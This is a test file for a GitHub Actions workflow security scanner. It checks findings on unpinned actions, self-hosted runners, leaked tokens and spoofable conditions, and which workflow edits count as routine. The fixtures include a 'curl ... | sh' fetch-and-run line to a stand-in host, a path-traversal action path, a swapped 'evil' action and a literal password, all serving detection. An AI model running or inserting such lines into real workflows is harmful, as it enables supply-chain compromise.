  it('lowers an unpinned action moved to another repository of the same owner (an owner gathering its actions into one); another owner stays medium', () => {
    const moved = (base: string, head: string): [string, string][] => {
      const before = extractWorkflow(`on: push\n${job(base)}`, '.github/workflows/ci.yml').findings ?? [];
      const after = extractWorkflow(`on: push\n${job(head)}`, '.github/workflows/ci.yml').findings ?? [];
      const keys = new Set(before.map((f) => f.key));
      return lowerMovedUnpinnedRefs(after.filter((f) => !keys.has(f.key)), before).map((f) => [f.id, f.severity]);
    };
    expect(moved('      - uses: buildtool/buildtool-setup-action@v2\n', '      - uses: buildtool/actions/setup@v3\n')).toEqual([['gha-unpinned-action', 'low']]);
    expect(moved('      - uses: BuildTool/wrapper-check-action@v2\n', '      - uses: buildtool/actions/wrapper-check@v3\n')).toEqual([['gha-unpinned-action', 'low']]);
    expect(moved('      - uses: buildtool/buildtool-setup-action@v2\n', '      - uses: buildtools/actions/setup@v3\n')).toEqual([['gha-unpinned-action', 'medium']]);
    expect(moved(`      - uses: buildtool/buildtool-setup-action@${SHA} # v2.0.0\n`, '      - uses: buildtool/actions/setup@v3\n')).toEqual([['gha-unpinned-action', 'medium']]);
  });
  it('reads the self-repository form ($/dir) as the repository\'s own action, not a remote one with no ref', () => {
    const workflow = `on: pull_request\njobs:\n  lint:\n    uses: $/.github/workflows/lint.yml\n    secrets: inherit\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: $/.github/actions/ci-setup\n      - uses: $/./tools/check\n      - run: npm test\n`;
    expect(found(workflow)).toEqual([]);
    expect((extractWorkflow(workflow, '.github/workflows/ci.yml').deps ?? []).map((d) => [d.name, d.source])).toEqual([
      ['./.github/workflows/lint.yml', 'path'],
      ['./.github/actions/ci-setup', 'path'],
      ['./tools/check', 'path'],
    ]);
    // Still read for what a local path can hide, and a remote action named like one is still remote.
    expect(ids(`on: push\n${job('      - uses: $/../../_temp/evil\n')}`)).toContain('gha-obfuscation:high');
    expect(ids(`on: push\n${job('      - uses: dollar/setup@v1\n')}`)).toEqual(['gha-unpinned-action:medium']);
  });
});

describe('docker-unpinned-image in a run: step', () => {
  it('reports docker run of an image without a digest: medium with no tag or latest, low for a tag', () => {
    const workflow = `on: pull_request\n${job(`      - run: docker run --rm -v $PWD:/src -e GITHUB_TOKEN=\${{ secrets.GITHUB_TOKEN }} ghcr.io/lintkit/lint-all /src
      - run: |
          docker run --rm \\
            hadolint/hadolint:v2.12.0 hadolint Dockerfile
          docker run alpine:latest true
`)}`;
    expect(only(workflow, 'docker-unpinned-image')).toEqual([
      ['docker-unpinned-image', 'medium', 6],
      ['docker-unpinned-image', 'low', 9],
      ['docker-unpinned-image', 'medium', 10],
    ]);
  });

  it('leaves alone: a digest, an image the workflow builds, tags or loads, a local registry, a variable', () => {
    const digest = `on: push\n${job(`      - run: docker run --rm alpine:3.20@sha256:${'a'.repeat(64)} true\n`)}`;
    const built = `on: push\n${job(`      - run: docker build -t app .\n      - run: docker run --rm app npm test\n      - uses: docker/build-push-action@${SHA}\n        with:\n          load: true\n          tags: ghcr.io/acme/web:ci\n      - run: docker run ghcr.io/acme/web:ci\n`)}`;
    const loaded = `on: push\n${job(`      - run: docker load -i image.tar && docker run acme-api\n`)}`;
    const local = `on: push\n${job(`      - run: docker run localhost:5000/acme/app\n      - run: docker run "$IMAGE"\n`)}`;
    for (const w of [digest, built, loaded, local]) expect(only(w, 'docker-unpinned-image')).toEqual([]);
  });
});

describe('gha-self-hosted-runner', () => {
  it('reports self-hosted runners on events outsiders cause', () => {
    expect(only(`on: pull_request\njobs:\n  t:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make\n`, 'gha-self-hosted-runner')).toEqual([['gha-self-hosted-runner', 'medium', 4]]);
    expect(only(`on: issue_comment\njobs:\n  t:\n    runs-on:\n      group: gpu\n    steps:\n      - run: make\n`, 'gha-self-hosted-runner')).toEqual([['gha-self-hosted-runner', 'high', 4]]);
  });
  it('does not report them on push or schedule', () => {
    expect(only(`on:\n  push:\n    branches: [main]\njobs:\n  t:\n    runs-on: self-hosted\n    steps:\n      - run: make\n`, 'gha-self-hosted-runner')).toEqual([]);
  });
});

describe('gha-insecure-commands', () => {
  it('reports ACTIONS_ALLOW_UNSECURE_COMMANDS', () => {
    expect(only(`on: pull_request\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n${job('      - run: make\n')}`, 'gha-insecure-commands')).toEqual([['gha-insecure-commands', 'high', 3]]);
  });
  it('does not report it set to false', () => {
    expect(only(`on: pull_request\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: 'false'\n${job('      - run: make\n')}`, 'gha-insecure-commands')).toEqual([]);
  });
});

describe('gha-bot-condition, gha-unsound-contains, gha-unsound-condition', () => {
  it('reports a spoofable bot check in a privileged workflow, a string contains() and an always-true if:', () => {
    const workflow = `on: pull_request_target
permissions: {}
jobs:
  automerge:
    runs-on: ubuntu-latest
    if: github.actor == 'dependabot[bot]'
    steps:
      - run: gh pr merge --auto "$PR"
        if: \${{ contains('refs/heads/main refs/heads/develop', github.base_ref) }}
      - run: echo deploy
        if: \${{ github.event.pull_request.merged }} && \${{ github.base_ref == 'main' }}
`;
    expect(found(workflow).filter(([id]) => ['gha-bot-condition', 'gha-unsound-contains', 'gha-unsound-condition'].includes(id))).toEqual([
      ['gha-bot-condition', 'high', 6],
      ['gha-unsound-contains', 'medium', 9],
      ['gha-unsound-condition', 'medium', 11],
    ]);
  });
  it("does not report the PR author's login, contains() over a list, or one whole expression", () => {
    const workflow = `on: pull_request_target
permissions: {}
jobs:
  automerge:
    runs-on: ubuntu-latest
    if: github.event.pull_request.user.login == 'dependabot[bot]'
    steps:
      - run: gh pr merge --auto "$PR"
        if: contains(fromJSON('["main", "develop"]'), github.base_ref)
      - run: echo ok
        if: \${{ github.event.pull_request.merged && github.base_ref == 'main' }}
`;
    expect(found(workflow).filter(([id]) => ['gha-bot-condition', 'gha-unsound-contains', 'gha-unsound-condition'].includes(id))).toEqual([]);
  });
});

describe('gha-container-credentials', () => {
  it('reports a literal registry password', () => {
    const workflow = `on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    container:\n      image: registry.acme.dev/build:1@sha256:${'a'.repeat(64)}\n      credentials:\n        username: ci\n        password: hunter2-registry\n    steps:\n      - run: make\n`;
    expect(only(workflow, 'gha-container-credentials')).toEqual([['gha-container-credentials', 'high', 9]]);
  });
  it('does not report a password from secrets', () => {
    const workflow = `on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    services:\n      db:\n        image: registry.acme.dev/pg:16@sha256:${'a'.repeat(64)}\n        credentials:\n          username: ci\n          password: \${{ secrets.REGISTRY_PASSWORD }}\n    steps:\n      - run: make\n`;
    expect(only(workflow, 'gha-container-credentials')).toEqual([]);
  });
});

describe('gha-artipacked', () => {
  it('reports uploading the whole checkout with its persisted token', () => {
    const workflow = `on: pull_request\n${job(`      - uses: actions/checkout@${SHA}\n      - uses: actions/upload-artifact@${SHA}\n        with:\n          path: .\n`)}`;
    expect(only(workflow, 'gha-artipacked')).toEqual([['gha-artipacked', 'high', 7]]);
  });
  it('points at the upload step that publishes the checkout, not an earlier upload of the same action', () => {
    const workflow = [
      'on: pull_request',
      'jobs:',
      '  build:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      `      - uses: actions/checkout@${SHA}`,
      `      - uses: actions/upload-artifact@${SHA}`,
      '        with:',
      '          path: dist/',
      '  report:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      `      - uses: actions/checkout@${SHA}`,
      `      - uses: actions/upload-artifact@${SHA}`,
      '        with:',
      '          path: dist/',
      `      - uses: actions/upload-artifact@${SHA}`,
      '        with:',
      '          path: .',
      '',
    ].join('\n');
    expect(only(workflow, 'gha-artipacked')).toEqual([['gha-artipacked', 'high', 17]]);
  });
  it('does not report persist-credentials: false or a build directory', () => {
    const off = `on: pull_request\n${job(`      - uses: actions/checkout@${SHA}\n        with:\n          persist-credentials: false\n      - uses: actions/upload-artifact@${SHA}\n        with:\n          path: .\n`)}`;
    const dist = `on: pull_request\n${job(`      - uses: actions/checkout@${SHA}\n      - uses: actions/upload-artifact@${SHA}\n        with:\n          path: dist/\n`)}`;
    expect([...only(off, 'gha-artipacked'), ...only(dist, 'gha-artipacked')]).toEqual([]);
  });
  it('does not report include-hidden-files for a named file or an output folder; still reports it for the workspace, a root glob, an unknown path or the checkout folder', () => {
    // Modeled on a formatter's CI uploading the PR comment it wrote to a dotfile.
    const upload = (path: string, checkoutWith = '') => `on: pull_request\n${job(`      - uses: actions/checkout@${SHA}\n${checkoutWith}      - run: echo '{}' > .pr-comment.json\n      - uses: actions/upload-artifact@${SHA}\n        with:\n          name: comment\n          path: "${path}"\n          include-hidden-files: true\n`)}`;
    expect(only(upload('.pr-comment.json'), 'gha-artipacked')).toEqual([]);
    expect(only(upload('coverage/'), 'gha-artipacked')).toEqual([]);
    for (const path of ['.', '**/*', './**', '${{ matrix.dir }}', '${{ github.workspace }}/**']) expect(only(upload(path), 'gha-artipacked').map((f) => f[0])).toEqual(['gha-artipacked']);
    expect(only(upload('src', '        with:\n          path: src/app\n'), 'gha-artipacked').map((f) => f[0])).toEqual(['gha-artipacked']);
    expect(only(upload('dist', '        with:\n          path: src/app\n'), 'gha-artipacked')).toEqual([]);
  });
});

describe('routine workflow edits', () => {
  const base = `name: CI
on: [push, pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-22.04
    timeout-minutes: 10
    strategy:
      matrix:
        node: [18, 20]
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with:
          node-version: \${{ matrix.node }}
      - run: npm ci && npm test
`;
  it('treats matrices, versions, timeouts, names, hosted images, ref moves and comments as routine', () => {
    const head = base
      .replace('node: [18, 20]', 'node: [20, 22, 24]')
      .replace('timeout-minutes: 10', 'timeout-minutes: 20 # slower runners')
      .replace('ubuntu-22.04', 'ubuntu-24.04')
      .replace('actions/checkout@v4', 'actions/checkout@v5')
      .replace('name: CI', 'name: Continuous integration');
    expect(isRoutineWorkflowChange(base, head)).toBe(true);
  });
  it('treats a continue-on-error dropped as routine; one added, or turned on, is not (calib50)', () => {
    const allowance = '    continue-on-error: ${{ matrix.node == 24 }}\n';
    const withIt = base.replace('    timeout-minutes: 10\n', `${allowance}    timeout-minutes: 10\n`);
    expect(withIt).not.toEqual(base);
    expect(isRoutineWorkflowChange(withIt, base)).toBe(true);
    expect(isRoutineWorkflowChange(base, withIt)).toBe(false);
    expect(isRoutineWorkflowChange(withIt, withIt.replace('${{ matrix.node == 24 }}', 'true'))).toBe(false);
  });
  it("treats an action input whose text only gains or changes versions as routine; another word, a script's number or a ref is not (calib50)", () => {
    // Modeled on a validation library's "Add initial support for Python 3.15": maturin's interpreter list in `args:`.
    const wheels = (args: string, key = 'args') => `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: PyO3/maturin-action@v1\n        with:\n          ${key}: ${args}\n`;
    const list = (versions: string) => `--release --out dist --interpreter \${{ matrix.interpreter || '${versions}' }}`;
    expect(isRoutineWorkflowChange(wheels(list('3.10 3.11 3.12 3.13 3.14 3.14t pypy3.11')), wheels(list('3.10 3.11 3.12 3.13 3.14 3.14t 3.15 3.15t pypy3.11')))).toBe(true);
    expect(isRoutineWorkflowChange(wheels('--interpreter 3.12'), wheels('--interpreter 3.13'))).toBe(true);
    // Another option, a script's number, a bare ref, or a branch input are not versions moved.
    expect(isRoutineWorkflowChange(wheels(list('3.13 3.14')), wheels(`${list('3.13 3.14')} --features unsafe`))).toBe(false);
    expect(isRoutineWorkflowChange(wheels('--interpreter 3.12'), wheels('--interpreter 3.12 -m ./evil'))).toBe(false);
    expect(isRoutineWorkflowChange(wheels('install tool1.0'), wheels('install evilpkg1.0'))).toBe(false);
    expect(isRoutineWorkflowChange(wheels('await wait(2)', 'script'), wheels('await wait(30)', 'script'))).toBe(false);
    expect(isRoutineWorkflowChange(wheels('release2', 'ref'), wheels('release3', 'ref'))).toBe(false);
    expect(isRoutineWorkflowChange(wheels('v2', 'target'), wheels('v3', 'target'))).toBe(false);
  });
  it('treats a job moved onto a GitHub-hosted runner as routine; moved off one, onto a runner of its own, is not (clap "Switch to github runners")', () => {
    const on = (runner: string) => base.replace('runs-on: ubuntu-22.04', `runs-on: ${runner}`);
    expect(isRoutineWorkflowChange(on('buildjet-8vcpu-ubuntu-2204'), on('ubuntu-latest'))).toBe(true);
    expect(isRoutineWorkflowChange(on('\n      group: large-runners'), on('ubuntu-24.04-arm'))).toBe(true);
    expect(isRoutineWorkflowChange(on('[self-hosted, linux]'), on('ubuntu-slim'))).toBe(true);
    expect(isRoutineWorkflowChange(on('macos-14'), on('macos-15-intel'))).toBe(true);
    expect(isRoutineWorkflowChange(on('ubuntu-latest'), on('buildjet-8vcpu-ubuntu-2204'))).toBe(false);
    expect(isRoutineWorkflowChange(on('ubuntu-latest'), on('[self-hosted, linux]'))).toBe(false);
    expect(isRoutineWorkflowChange(on('ubuntu-latest'), on('\n      group: large-runners'))).toBe(false);
    expect(isRoutineWorkflowChange(on('buildjet-8vcpu-ubuntu-2204'), on('ubuntu-latest-evil'))).toBe(false);
  });
  it("treats a step's if: written with or without its ${{ }} wrapper as the same condition; another condition is not routine (hatch 'Fix typo')", () => {
    const cond = (value: string) => base.replace('      - run: npm ci && npm test', `      - if: ${value}\n        run: npm ci && npm test`);
    expect(isRoutineWorkflowChange(cond(`"!startsWith(matrix.node, '1')"`), cond(`\${{ !startsWith(matrix.node, '1') }}`))).toBe(true);
    expect(isRoutineWorkflowChange(cond('github.event_name == \'push\''), cond("${{github.event_name == 'push'}}"))).toBe(true);
    expect(isRoutineWorkflowChange(cond(`"!startsWith(matrix.node, '1')"`), cond(`\${{ startsWith(matrix.node, '1') }}`))).toBe(false);
    // Two expressions joined by text are not one wrapper.
    expect(isRoutineWorkflowChange(cond('"a && b"'), cond('${{ a }} && ${{ b }}'))).toBe(false);
    expect(isRoutineWorkflowChange(base, cond('always()'))).toBe(false);
  });
  it("treats a step's if: that picks a matrix cell by another version as routine (execa's Node 24 bump); another comparison or a cell picked by something else is not", () => {
    const cond = (value: string) => base.replace('      - run: npm ci && npm test', `      - if: ${value}\n        run: npm ci && npm test`);
    expect(isRoutineWorkflowChange(cond("${{ matrix.os == 'ubuntu' && matrix.node == 23 }}"), cond("${{ matrix.os == 'ubuntu' && matrix.node == 24 }}"))).toBe(true);
    expect(isRoutineWorkflowChange(cond("matrix.python != '3.12'"), cond("matrix.python != '3.13'"))).toBe(true);
    expect(isRoutineWorkflowChange(cond("${{ matrix.node == 23 }}"), cond("${{ matrix.node == 23 || github.event_name == 'push' }}"))).toBe(false);
    expect(isRoutineWorkflowChange(cond("${{ matrix.node == 23 }}"), cond("${{ matrix.node != 23 }}"))).toBe(false);
    expect(isRoutineWorkflowChange(cond("${{ github.run_attempt == 1 }}"), cond("${{ github.run_attempt == 2 }}"))).toBe(false);
  });
  it('does not treat new steps, scripts, triggers, permissions or another action as routine', () => {
    expect(isRoutineWorkflowChange(base, base.replace('npm ci && npm test', 'npm ci && npm test && ./upload.sh'))).toBe(false);
    expect(isRoutineWorkflowChange(base, base.replace('[push, pull_request]', '[push, pull_request_target]'))).toBe(false);
    expect(isRoutineWorkflowChange(base, base.replace('contents: read', 'contents: write'))).toBe(false);
    expect(isRoutineWorkflowChange(base, base.replace('actions/setup-node@v4', 'evil/setup-node@v4'))).toBe(false);
    expect(isRoutineWorkflowChange(base, base.replace('    steps:\n', '    steps:\n      - run: echo hi\n'))).toBe(false);
    expect(isRoutineWorkflowChange(base, 'jobs: [')).toBe(false);
  });
  it('treats the same triggers written another way, a schedule\'s cron time and a with: of tool versions as routine', () => {
    expect(isRoutineWorkflowChange(base, base.replace('on: [push, pull_request]', 'on:\n  push:\n  pull_request:'))).toBe(true);
    expect(isRoutineWorkflowChange(base.replace('on: [push, pull_request]', 'on: push'), base.replace('on: [push, pull_request]', 'on: [push]'))).toBe(true);
    const scheduled = base.replace('on: [push, pull_request]', "on:\n  schedule:\n    - cron: '0 * * * *'");
    expect(isRoutineWorkflowChange(scheduled, scheduled.replace("'0 * * * *'", "'0 0 * * *'"))).toBe(true);
    const bare = base.replace('        with:\n          node-version: ${{ matrix.node }}\n', '');
    expect(isRoutineWorkflowChange(bare, base)).toBe(true);
    expect(isRoutineWorkflowChange(base, bare)).toBe(true);
  });
  it('does not treat another trigger, another schedule, or a with: that sets more than versions as routine', () => {
    expect(isRoutineWorkflowChange(base, base.replace('on: [push, pull_request]', 'on:\n  push:\n  pull_request_target:'))).toBe(false);
    expect(isRoutineWorkflowChange(base, base.replace('on: [push, pull_request]', 'on:\n  push:\n  pull_request:\n    types: [labeled]'))).toBe(false);
    const scheduled = base.replace('on: [push, pull_request]', "on:\n  schedule:\n    - cron: '0 * * * *'");
    expect(isRoutineWorkflowChange(scheduled, scheduled.replace("    - cron: '0 * * * *'", "    - cron: '0 * * * *'\n    - cron: '30 * * * *'"))).toBe(false);
    expect(isRoutineWorkflowChange(base, scheduled)).toBe(false);
    const bare = base.replace('        with:\n          node-version: ${{ matrix.node }}\n', '');
    expect(isRoutineWorkflowChange(bare, base.replace('node-version: ${{ matrix.node }}', 'node-version: 20\n          registry-url: https://npm.example.net'))).toBe(false);
  });
  it("treats a concurrency group's name as routine; a new concurrency block or a group that is not a string is not", () => {
    const grouped = base.replace('permissions:', 'concurrency:\n  group: "${{ github.workflow }} @ ${{ github.head_ref || github.ref }}"\n  cancel-in-progress: true\npermissions:');
    expect(isRoutineWorkflowChange(grouped, grouped.replace('}} @ ${{', '}}-${{'))).toBe(true);
    expect(isRoutineWorkflowChange(base, grouped)).toBe(false);
    expect(isRoutineWorkflowChange(grouped, grouped.replace(/group: .*\n/, 'group:\n    name: x\n'))).toBe(false);
  });
  it('treats a new choice of a manually started workflow\'s input as routine; a new input, trigger or step is not', () => {
    const dispatch = (options: string, extra = '') =>
      `name: Update main version\non:\n  workflow_dispatch:\n    inputs:\n      major_version:\n        type: choice\n        description: The major version to update\n        options:\n${options}${extra}jobs:\n  tag:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git tag -f \${{ github.event.inputs.major_version }}\n`;
    const before = dispatch('          - v3\n          - v2\n');
    expect(isRoutineWorkflowChange(before, dispatch('          - v4\n          - v3\n          - v2\n'))).toBe(true);
    expect(isRoutineWorkflowChange(before, dispatch('          - v3\n          - v2\n', '      target:\n        type: string\n'))).toBe(false);
    expect(isRoutineWorkflowChange(before, before.replace('  workflow_dispatch:', '  issue_comment:\n  workflow_dispatch:'))).toBe(false);
    expect(isRoutineWorkflowChange(before, before.replace('git tag -f', 'curl -s https://x.example/p | sh; git tag -f'))).toBe(false);
  });
});

describe('gha-ref-version-mismatch', () => {
  const pinned = 'a'.repeat(40);
  const workflow = `on: push\n${job(`      - uses: some-vendor/deploy@${pinned} # v2.3.1\n`)}`;
  const snapshot = (resolved: string | null) =>
    makeSnapshot({ contents: [{ path: '.github/workflows/x.yml', base: null, head: workflow }], actionTags: [{ path: '.github/workflows/x.yml', action: 'some-vendor/deploy', tag: 'v2.3.1', pinned, resolved }] });
  it('reports a version comment whose tag resolves to another commit', () => {
    expect(refVersionMismatchFindings(snapshot('b'.repeat(40))).map((f) => [f.id, f.severity, f.line])).toEqual([['gha-ref-version-mismatch', 'medium', 6]]);
  });
  it('does not report a matching tag, or one that could not be resolved', () => {
    expect([...refVersionMismatchFindings(snapshot(pinned)), ...refVersionMismatchFindings(snapshot(null))]).toEqual([]);
  });
});

describe('docs/findings.md', () => {
  it('documents every id these rules produce, and this file tests each documented workflow id', async () => {
    const { readFile } = await import('node:fs/promises');
    const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
    const documented = new Set([...doc.matchAll(/^### `(gha-[a-z0-9-]+)`/gm)].map((m) => m[1]));
    // The online audits' cases are in online-action-rules.test.ts, those added for zizmor parity in audit-parity.test.ts,
    // the AI agent step's (gha-ai-agent-untrusted-input) with the other AI agent rules in ../ai-agents/ai-agents.test.ts.
    const source = (
      await Promise.all(
        [import.meta.url, new URL('./online-action-rules.test.ts', import.meta.url), new URL('./audit-parity.test.ts', import.meta.url), new URL('../ai-agents/ai-agents.test.ts', import.meta.url)].map((u) => readFile(new URL(u), 'utf8')),
      )
    ).join('\n');
    const tested = new Set([...source.matchAll(/describe\('([^']+)'/g)].flatMap((m) => m[1]!.split(/,\s*| and /)).filter((id) => id.startsWith('gha-')));
    expect([...documented].sort()).toEqual([...tested].sort());
  });
});
